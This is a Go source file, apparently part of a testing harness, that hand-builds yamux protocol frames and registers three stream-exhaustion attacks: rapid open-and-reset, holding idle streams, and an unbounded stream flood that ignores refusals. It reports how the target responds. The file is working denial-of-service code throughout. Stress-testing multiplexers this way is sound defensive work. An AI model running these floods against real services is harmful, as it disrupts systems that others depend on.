package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Streams by hand: frames as go-yamux never sends them.
func init() {
	register("wire.rapid_reset", rapidReset)
	register("wire.hold", holdStreams)
	register("wire.deaf", deafFlood)
}

const (
	frameData   = 0
	frameWindow = 1
	framePing   = 2
	frameGoAway = 3

	flagSyn = 1
	flagAck = 2
	flagFin = 4
	flagRst = 8

	frameSize = 12
)

type frame struct {
	kind, flags uint16
	stream      uint32
	length      uint32
}

func (f frame) bytes() []byte {
	var out [frameSize]byte
	out[1] = byte(f.kind)
	binary.BigEndian.PutUint16(out[2:], f.flags)
	binary.BigEndian.PutUint32(out[4:], f.stream)
	binary.BigEndian.PutUint32(out[8:], f.length)
	return out[:]
}

func parseFrame(header []byte) frame {
	return frame{
		kind: uint16(header[1]), flags: binary.BigEndian.Uint16(header[2:]), stream: binary.BigEndian.Uint32(header[4:]),
		length: binary.BigEndian.Uint32(header[8:]),
	}
}

// session is our end of a yamux connection: it answers pings and counts what comes, and everything else is up to the
// attack.
type session struct {
	conn     net.Conn
	lock     sync.Mutex // of writes
	resets   atomic.Int64
	acks     atomic.Int64
	goAways  atomic.Int64
	finished chan struct{} // the other side has ended it
}

func (a args) session(ctx context.Context) (*session, *net.TCPConn, error) {
	t, err := a.target()
	if err != nil {
		return nil, nil, err
	}
	conn, raw, err := t.muxed(ctx)
	if err != nil {
		return nil, nil, err
	}
	return &session{conn: conn, finished: make(chan struct{})}, raw, nil
}

func (s *session) write(bytes []byte) error {
	s.lock.Lock()
	defer s.lock.Unlock()
	s.conn.SetWriteDeadline(time.Now().Add(30 * time.Second))
	_, err := s.conn.Write(bytes)
	return err
}

// listen reads until the end.
func (s *session) listen() {
	defer close(s.finished)
	input := bufio.NewReaderSize(s.conn, 1<<16)
	header := make([]byte, frameSize)
	for {
		if _, err := io.ReadFull(input, header); err != nil {
			return
		}
		got := parseFrame(header)
		if got.kind == frameData {
			if _, err := input.Discard(int(got.length)); err != nil {
				return
			}
		}
		switch {
		case got.kind == frameGoAway:
			s.goAways.Add(1)
		case got.kind == framePing && got.flags&flagSyn != 0:
			go s.write(frame{kind: framePing, flags: flagAck, length: got.length}.bytes())
		case got.flags&flagRst != 0:
			s.resets.Add(1)
		case got.flags&flagAck != 0:
			s.acks.Add(1)
		}
	}
}

// tell of it, after the time that the last answers may take.
func (s *session) tell(sent int) fields {
	ended := false
	select {
	case <-s.finished:
		ended = true
	case <-time.After(500 * time.Millisecond):
	}
	return fields{
		"sent": sent, "resets": s.resets.Load(), "acks": s.acks.Load(), "go_aways": s.goAways.Load(), "ended": ended,
	}
}

type yamuxArgs struct {
	Count  int  `json:"count"`
	HoldMs int  `json:"hold_ms"`
	Hello  bool `json:"hello"` // each stream begins to agree on a protocol
}

const framesTogether = 512

// rapidReset opens streams and resets each at once.
func rapidReset(ctx context.Context, a args) (fields, error) {
	var asked yamuxArgs
	if err := a.into(&asked); err != nil {
		return nil, err
	}
	s, _, err := a.session(ctx)
	if err != nil {
		return nil, err
	}
	defer s.conn.Close()
	go s.listen()
	var batch []byte
	sent := 0
	for ; sent < asked.Count && err == nil; sent++ {
		id := uint32(2*sent + 1)
		if asked.Hello {
			hello := token(multistreamID)
			batch = append(batch, frame{kind: frameData, flags: flagSyn, stream: id, length: uint32(len(hello))}.bytes()...)
			batch = append(batch, hello...)
		} else {
			batch = append(batch, frame{kind: frameWindow, flags: flagSyn, stream: id}.bytes()...)
		}
		batch = append(batch, frame{kind: frameWindow, flags: flagRst, stream: id}.bytes()...)
		if sent%framesTogether == framesTogether-1 || sent == asked.Count-1 {
			err = s.write(batch)
			batch = batch[:0]
		}
	}
	return s.tell(sent), nil
}

// holdStreams opens streams and says no more; some time later it tells which of them were reset.
func holdStreams(ctx context.Context, a args) (fields, error) {
	var asked yamuxArgs
	if err := a.into(&asked); err != nil {
		return nil, err
	}
	s, _, err := a.session(ctx)
	if err != nil {
		return nil, err
	}
	defer s.conn.Close()
	go s.listen()
	for i := range asked.Count {
		if err := s.write(frame{kind: frameWindow, flags: flagSyn, stream: uint32(2*i + 1)}.bytes()); err != nil {
			return nil, err
		}
	}
	time.Sleep(time.Second)
	atOnce := s.resets.Load()
	select {
	case <-ctx.Done():
	case <-s.finished:
		return nil, errors.New("the connection was ended")
	case <-time.After(time.Duration(asked.HoldMs) * time.Millisecond):
	}
	told := s.tell(asked.Count)
	told["reset_at_once"] = atOnce
	return told, nil
}

// deafFlood opens streams beyond every limit, does not read that they are refused, and goes on until it is cut off.
func deafFlood(ctx context.Context, a args) (fields, error) {
	s, raw, err := a.session(ctx)
	if err != nil {
		return nil, err
	}
	defer s.conn.Close()
	raw.SetReadBuffer(4096)
	began := time.Now()
	for sent := 0; ctx.Err() == nil; sent += framesTogether {
		var batch []byte
		for i := range framesTogether {
			batch = append(batch, frame{kind: frameWindow, flags: flagSyn, stream: uint32(2*(sent+i) + 1)}.bytes()...)
		}
		if err := s.write(batch); err != nil {
			return fields{"sent": sent, "seconds": time.Since(began).Seconds(), "why": err.Error()}, nil
		}
	}
	return nil, ctx.Err()
}
